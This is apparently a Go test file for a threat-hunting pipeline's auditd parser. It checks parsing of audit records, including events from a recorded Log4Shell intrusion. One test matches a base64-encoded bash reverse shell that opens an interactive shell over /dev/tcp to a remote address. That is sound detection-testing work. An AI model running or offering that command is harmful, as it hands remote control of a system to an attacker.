package analyzers

import (
	"encoding/hex"
	"encoding/json"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/huntd/huntd/pipeline"
	"github.com/huntd/huntd/pipeline/internal/recorded"
)

// An auditdRow is one of MSTICPy's records of a program's start.
type auditdRow struct {
	EventType string
	ID        string    `json:"mssg_id"`
	Time      time.Time `json:"TimeGenerated"`
	A0, A1, A2,
	Cmdline, Cwd, Exe, Success, Proctitle string
	Argc, Auid, Egid, Euid, Gid, Pid, Ppid, Ses, Uid float64
}

// lines writes the lines that the row was read from, as far as they can be known.
func (r auditdRow) lines() []string {
	head := func(kind string) string { return fmt.Sprintf("type=%s msg=audit(%s:%d): ", kind, r.ID, 100+int(r.Pid)) }
	id := func(v float64) string { return fmt.Sprint(uint32(int64(v))) }
	args := strings.Split(r.Proctitle, "\x00")
	execve := head("EXECVE") + fmt.Sprintf("argc=%d", int(r.Argc))
	for i := range int(r.Argc) {
		arg := "?"
		if i < len(args) {
			arg = args[i]
		}
		if first := []string{r.A0, r.A1, r.A2}; i < len(first) {
			arg = first[i]
		}
		execve += fmt.Sprintf(" a%d=%s", i, strings.ToUpper(hex.EncodeToString([]byte(arg))))
		if arg == "" {
			execve += `""`
		}
	}
	return []string{
		head("SYSCALL") + fmt.Sprintf("arch=c000003e syscall=59 success=%s exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=%d pid=%d auid=%s uid=%s gid=%s euid=%s egid=%s ses=%s exe=%q",
			r.Success, int(r.Ppid), int(r.Pid), id(r.Auid), id(r.Uid), id(r.Gid), id(r.Euid), id(r.Egid), id(r.Ses), r.Exe),
		execve,
		head("CWD") + fmt.Sprintf("cwd=%q", r.Cwd),
		head("PROCTITLE") + "proctitle=" + strings.ToUpper(hex.EncodeToString([]byte(r.Proctitle))),
	}
}

// TestAuditdGolden: from lines that tell what MSTICPy's records tell, shuffled,
// come these records. Its log is not at hand, so that the lines are made of the
// records. One column differs: its cmdline lacks the arguments from a3 on.
func TestAuditdGolden(t *testing.T) {
	var golden []auditdRow
	recorded.JSON(t, recorded.Path(t, "golden", "auditd_execve.json"), &golden)
	var in []string
	for _, r := range golden {
		for _, l := range r.lines() {
			raw, err := json.Marshal(map[string]string{"host": "h", "_raw": l})
			if err != nil {
				t.Fatal(err)
			}
			in = append(in, string(raw))
		}
	}
	for i := range in { // lines of one event come apart
		j := (i * 7919) % len(in)
		in[i], in[j] = in[j], in[i]
	}
	out, err := runPipeline(t, "- auditd\n", strings.Join(in, "\n"))
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]map[string]string{}
	for _, f := range fieldsOf(t, out) {
		got[f["mssg_id"]+" "+f["pid"]] = f
	}
	if len(got) != len(golden) || len(golden) == 0 {
		t.Errorf("%d events, want %d", len(got), len(golden))
	}
	number := func(v float64) string { return fmt.Sprint(int64(v)) }
	for _, r := range golden {
		f := got[r.ID+" "+number(r.Pid)]
		want := map[string]string{
			"EventType": r.EventType, "mssg_id": r.ID, "_time": pipeline.FormatEpoch(r.Time), "a0": r.A0, "a1": r.A1, "a2": r.A2,
			"argc": number(r.Argc), "auid": number(r.Auid), "cwd": r.Cwd, "egid": number(r.Egid), "euid": number(r.Euid), "exe": r.Exe,
			"gid": number(r.Gid), "pid": number(r.Pid), "ppid": number(r.Ppid), "proctitle": r.Proctitle, "ses": number(r.Ses),
			"success": r.Success, "uid": number(r.Uid),
		}
		for name, v := range want {
			if f[name] != v {
				t.Errorf("%s: %s is %q, want %q", r.ID, name, f[name], v)
			}
		}
		if whole := strings.TrimRight(r.Cmdline, " "); r.Argc <= 3 && f["cmdline"] != r.Cmdline || !strings.HasPrefix(f["cmdline"], whole) {
			t.Errorf("%s: cmdline is %q, want %q", r.ID, f["cmdline"], r.Cmdline)
		}
	}
}

// TestAuditdRecording: the events of a real intrusion, which AUOMS merged, have
// the fields that the recording states, and make a tree from the web server to
// the shell.
func TestAuditdRecording(t *testing.T) {
	var in strings.Builder
	for _, line := range recorded.Lines(t, filepath.Join(recorded.Path(t, "data", "dev"), "log4shell-linux-auditd.ndjson.gz")) {
		in.Write(append(line, '\n'))
	}
	out, err := runPipeline(t, "- auditd: { merge: record }\n- process_tree: { inferred: false }\n", in.String())
	if err != nil {
		t.Fatal(err)
	}
	events := fieldsOf(t, out)
	shells := 0
	for _, f := range events {
		if f["exe"] == "" || f["pid"] == "" || f["node"] != "UBUNTU5" || f["type"] != "AUOMS_EXECVE" || f["proc_path"] == "" || strings.HasPrefix(f["exe"], `"`) {
			t.Errorf("at %s: exe %q, pid %q, node %q, type %q, tree %q", f["_time"], f["exe"], f["pid"], f["node"], f["type"], f["proc_path"])
		}
		if f["cmdline"] == `bash -c "{echo,YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTIuMTY4LjIuNi80NDMgMD4mMQo=}|{base64,-d}|{bash,-i}"` {
			shells++
		}
	}
	if len(events) != 50 || shells != 1 {
		t.Errorf("%d events, %d shells; want 50 and 1", len(events), shells)
	}
}

// TestAuditdBounds: what is left out is counted, and noted on the record.
func TestAuditdBounds(t *testing.T) {
	var in strings.Builder
	for i := range 3000 {
		fmt.Fprintf(&in, `{"host":"h","_raw":"type=A msg=audit(1.0:%d): x=1 n%d=1 m%d=1"}`+"\n", i, i, i)
	}
	out, err := runPipeline(t, "- auditd: { max_bytes: 65536 }\n", in.String())
	if err != nil {
		t.Fatal(err)
	}
	noted := strings.Count(out, `"huntd_note":"auditd: the event has more fields than were kept"`)
	if events := strings.Count(out, "\n"); events != 3000 || noted < 900 || noted > 1000 {
		t.Errorf("%d events, %d noted", events, noted)
	}
	dict := pipeline.NewDict()
	stage, err := newAuditd(auditdConfig{Fields: []string{"_raw"}, Merge: "window", MaxBytes: 65536}, dict)
	if err != nil {
		t.Fatal(err)
	}
	dec := pipeline.NewDecoder(dict)
	for line := range strings.Lines(in.String()) {
		if err := dec.Object([]byte(line)); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := stage.Process(t.Context(), dec.Batch()); err != nil {
		t.Fatal(err)
	}
	if _, err := stage.Flush(t.Context(), pipeline.Window{}); err != nil {
		t.Fatal(err)
	}
	counts := stage.(pipeline.Counter).Counts()
	if counts["early"] < 2500 || counts["fields_over"] < 1900 {
		t.Errorf("counts are %v", counts)
	}
}
